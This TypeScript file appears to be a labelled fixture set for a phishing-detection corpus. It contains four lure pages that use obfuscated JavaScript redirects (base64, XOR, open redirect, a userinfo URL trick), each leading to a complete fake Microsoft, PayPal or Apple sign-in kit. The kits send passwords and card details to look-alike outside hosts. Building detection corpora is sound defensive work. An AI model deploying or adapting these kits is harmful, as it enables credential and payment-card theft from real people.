import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import type { Route } from '../../corpus/corpus.js';

// Lures whose hop to the kit happens in script or meta refresh.
const raw = String.raw;

/** A small Microsoft sign-in kit; each chain below lands on its own copy of it. */
const msKit = (sink: string): string => raw`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Sign in to your account</title>
<style>body{margin:0;background:#f0f4f9;font-family:"Segoe UI",sans-serif}.b{width:440px;max-width:92vw;margin:90px auto;background:#fff;padding:44px;box-sizing:border-box;box-shadow:0 2px 6px #0003}.m{display:grid;grid-template-columns:10px 10px;gap:1px;margin-bottom:16px}.m i{width:10px;height:10px}.t{font-size:24px;font-weight:600;margin-bottom:14px}input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:0;margin-bottom:16px}button{float:right;background:#0067b8;color:#fff;border:0;padding:7px 30px;font-size:15px}.e{color:#e81123;font-size:14px}</style></head>
<body><div class="b" id="b"></div><script>
var em=decodeURIComponent((location.search.match(/[?&](?:e|email|u)=([^&]+)/)||location.hash.match(/#(.+)/)||[,''])[1]);if(em&&em.indexOf('@')<0){try{em=atob(em)}catch(x){}}
var L='<div class="m"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></div>';
var b=document.getElementById('b'),n=0;
function a(){b.innerHTML=L+'<div class="t">Sign in</div><div class="e" id="er"></div><input id="u" type="email" placeholder="Email, phone, or Skype" value="'+em+'"><button id="x">Next</button><div style="clear:both"></div>';document.getElementById('x').onclick=function(){em=document.getElementById('u').value;if(em.indexOf('@')>0)p()}}
function p(){b.innerHTML=L+'<div style="font-size:14px">'+em+'</div><div class="t">Enter password</div><div class="e" id="er"></div><input id="pw" type="password" placeholder="Password"><button id="x">Sign in</button><div style="clear:both"></div>';document.getElementById('x').onclick=function(){var v=document.getElementById('pw').value;if(!v)return;n++;fetch('${sink}',{method:'POST',mode:'no-cors',body:JSON.stringify({login:em,passwd:v,n:n})});if(n<2){document.getElementById('er').textContent='Your account or password is incorrect.';document.getElementById('pw').value=''}else location.replace('https://portal.office.com')}}
em?p():a();
</script></body></html>`;

export const entries: Entry[] = [
  {
    id: 'c-redir-loading-b64-replace',
    label: 'phishing',
    kind: 'js-redirect-chain',
    url: 'https://elmwood-dental-care.com/wp-content/uploads/2023/11/inv/index.html#c2FyYWgubWlsbGVyQGhhcmJvcnBvaW50LWxhdy5jb20=',
    body: raw`<html><head><meta charset="utf-8"><title>Loading...</title>
<style>body{display:flex;height:100vh;margin:0;align-items:center;justify-content:center;font-family:sans-serif;color:#666}.sp{width:28px;height:28px;border:3px solid #ccc;border-top-color:#0078d4;border-radius:50%;animation:s .8s linear infinite;margin-right:12px}@keyframes s{to{transform:rotate(1turn)}}</style></head>
<body><div class="sp"></div>Please wait...
<script>
var _u = "aHR0cHM6Ly9sb2dpbi5taWNyb3NvZnRvbmxpbmUtYXV0aC5jbG91ZC9jb21tb24vbG9naW4/ZT0=";
var _h = location.hash.substring(1);
setTimeout(function () { window.location.replace(atob(_u) + encodeURIComponent(_h)); }, 1200);
</script></body></html>`,
    routes: {
      'login.microsoftonline-auth.cloud/common/login': htmlRoute(msKit('https://login.microsoftonline-auth.cloud/common/reprocess')),
    },
  },
  {
    id: 'c-redir-sharepoint-click',
    label: 'phishing',
    kind: 'js-redirect-chain',
    url: 'https://northgatebuilders-my.sharepoint-online.site/:b:/g/personal/accounts/EbQ1x7v',
    body: raw`<!DOCTYPE html><html><head><meta charset="utf-8"><title>SharePoint</title>
<style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#faf9f8}.sb{background:#036c70;height:48px;color:#fff;display:flex;align-items:center;padding:0 16px;font-weight:600}.card{max-width:460px;margin:70px auto;background:#fff;box-shadow:0 1.6px 3.6px #0002;padding:32px;text-align:center}.ic{width:64px;height:64px;margin:0 auto 12px;background:#c43e1c;color:#fff;font-weight:700;display:flex;align-items:center;justify-content:center;border-radius:4px}.bt{background:#0078d4;color:#fff;border:0;padding:10px 24px;font-size:14px;cursor:pointer;border-radius:2px}.s{font-size:13px;color:#605e5c}</style></head>
<body><div class="sb">SharePoint</div><div class="card" id="c"></div>
<script>
var f = { name: 'Payment_Schedule_Q4.pdf', size: '412 KB', from: 'Accounts Payable', org: 'Northgate Builders' };
var go = 'aHR0cHM6Ly9ub3J0aGdhdGUtYnVpbGRlcnMuYXV0aC1taWNyb3NvZnQtc3NvLmNvbS9vYXV0aDIvdjIuMC8=';
document.getElementById('c').innerHTML = '<div class="ic">PDF</div><h3>' + f.name + '</h3><p class="s">' + f.from + ' (' + f.org + ') shared a file with you · ' + f.size + '</p><p class="s">This link will work for anyone in your organization.</p><button class="bt" id="o">Open</button>';
document.getElementById('o').addEventListener('click', function () { location.assign(atob(go) + '?client=sp&file=' + encodeURIComponent(f.name)); });
setTimeout(function () { location.assign(atob(go) + '?client=sp&auto=1'); }, 8000);
</script></body></html>`,
    routes: {
      'northgate-builders.auth-microsoft-sso.com/oauth2/v2.0/': htmlRoute(msKit('https://northgate-builders.auth-microsoft-sso.com/oauth2/v2.0/token')),
    },
  },
  {
    id: 'c-redir-userinfo-paypal',
    label: 'phishing',
    kind: 'js-redirect-chain',
    url: 'https://sec-review-88.com/account/restore',
    submittedUrl: 'https://www.paypal.com@sec-review-88.com/account/restore',
    body: raw`<!doctype html><html><head><meta charset="utf-8"><title>Redirecting</title><meta name="robots" content="noindex"></head><body style="background:#fff">
<script>
!function(d,w){var k=[55,57,48,49],s="X01EQUQDHx5ATkcfR1hJQVZVHlJYVB5DUkpfXUJNWV5ZFFNUWU1VQxlRVV1HFkNYUFdZXwhVX1JWVVUfTwRVX2hsYw==";var r=atob(s).split("").map(function(c,i){return String.fromCharCode(c.charCodeAt(0)^k[i%4])}).join("");w.setTimeout(function(){w.location.replace(r)},300)}(document,window);
</script>
<noscript>Please enable JavaScript.</noscript></body></html>`,
    routes: {
      'www.paypal.com.resolution-center.help/signin': htmlRoute(raw`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Log in to your PayPal account</title>
<style>body{margin:0;font-family:Helvetica,Arial,sans-serif}.c{max-width:400px;margin:60px auto;border:1px solid #eaeced;border-radius:12px;padding:32px 44px;text-align:center}.l{font:italic 700 30px Verdana;color:#003087}.l b{color:#009cde}input{width:100%;height:46px;border:1px solid #9da3a6;border-radius:4px;padding:0 12px;margin:7px 0;box-sizing:border-box;font-size:16px}button{width:100%;height:46px;border:0;border-radius:23px;background:#0070ba;color:#fff;font-weight:700;font-size:16px;margin-top:10px}</style></head>
<body><div class="c" id="c"></div><script>
var c=document.getElementById('c');
c.innerHTML='<div class="l">Pay<b>Pal</b></div><p>We\'ve noticed some unusual activity. Log in to review it.</p><input id="e" placeholder="Email or mobile number"><input id="p" type="password" placeholder="Password"><button id="g">Log In</button>';
document.getElementById('g').onclick=function(){var d=new URLSearchParams({login_email:document.getElementById('e').value,login_password:document.getElementById('p').value});fetch('https://pp-res.api-gateway-node.com/v1/in',{method:'POST',body:d,mode:'no-cors'});c.innerHTML='<div class="l">Pay<b>Pal</b></div><h3>Confirm your card</h3><input placeholder="Card number" id="n"><input placeholder="MM/YY" id="x"><input placeholder="CSC" id="v"><button id="g2">Confirm</button>';document.getElementById('g2').onclick=function(){fetch('https://pp-res.api-gateway-node.com/v1/cc',{method:'POST',mode:'no-cors',body:[n.value,x.value,v.value].join('|')});location.href='https://www.paypal.com/'}};
</script></body></html>`),
    },
  },
  {
    id: 'c-redir-open-redirect-jsdecode',
    label: 'phishing',
    kind: 'js-redirect-chain',
    url: 'https://links.promo-mailer-eu.com/r/?t=' + 'aHR0cHM6Ly9hcHBsZS1pZC1zdXBwb3J0LWNhc2Uuc2hvcC9sb2NrZWQv',
    body: raw`<!doctype html><html><head><meta charset="utf-8"><title></title><meta name="referrer" content="no-referrer"></head><body>
<script>
var q = new URLSearchParams(location.search).get('t') || '';
var dest = '';
try { dest = atob(q.replace(/-/g, '+').replace(/_/g, '/')); } catch (e) {}
if (/^https?:\/\//.test(dest)) {
  var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '1;url=' + dest; document.head.appendChild(m);
  setTimeout(function(){ location.href = dest; }, 150);
} else { location.href = '/'; }
</script></body></html>`,
    routes: {
      'apple-id-support-case.shop/locked/': htmlRoute(raw`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Apple ID</title>
<style>body{margin:0;font-family:-apple-system,Helvetica,sans-serif;background:#f5f5f7}.c{max-width:420px;margin:70px auto;background:#fff;border-radius:18px;padding:36px;text-align:center}input{width:100%;height:44px;border:1px solid #d2d2d7;border-radius:10px;padding:0 12px;margin:6px 0;box-sizing:border-box;font-size:16px}button{background:#0071e3;color:#fff;border:0;border-radius:22px;padding:11px 30px;font-size:16px;margin-top:12px}</style></head>
<body><div class="c" id="c"></div>
<script>
document.getElementById('c').innerHTML='<svg width="34" height="40" viewBox="0 0 814 1000"><path d="M788 341c-6 4-108 62-108 190 0 148 130 200 134 201-21 72-69 142-112 265-88 123-156 123s-86-40-164-40c-77 0-104 41-167 41S44 789 0 545c0-191 124-292 246-292 65 0 119 43 160 43 39 0 100-45 174-45 28 0 129 2 196 97z"/></svg><h2>Your Apple ID has been locked</h2><p style="color:#6e6e73">This Apple ID has been locked for security reasons. Verify your identity to unlock it.</p><input id="a" placeholder="Apple ID"><input id="p" type="password" placeholder="Password"><button id="u">Unlock Account</button>';
document.getElementById('u').onclick=function(){var f=new FormData();f.append('id',a.value);f.append('pw',p.value);fetch('/locked/s.php',{method:'POST',body:f}).finally(function(){location.href='/locked/verify.html'})};
</script></body></html>`),
    },
  },
];
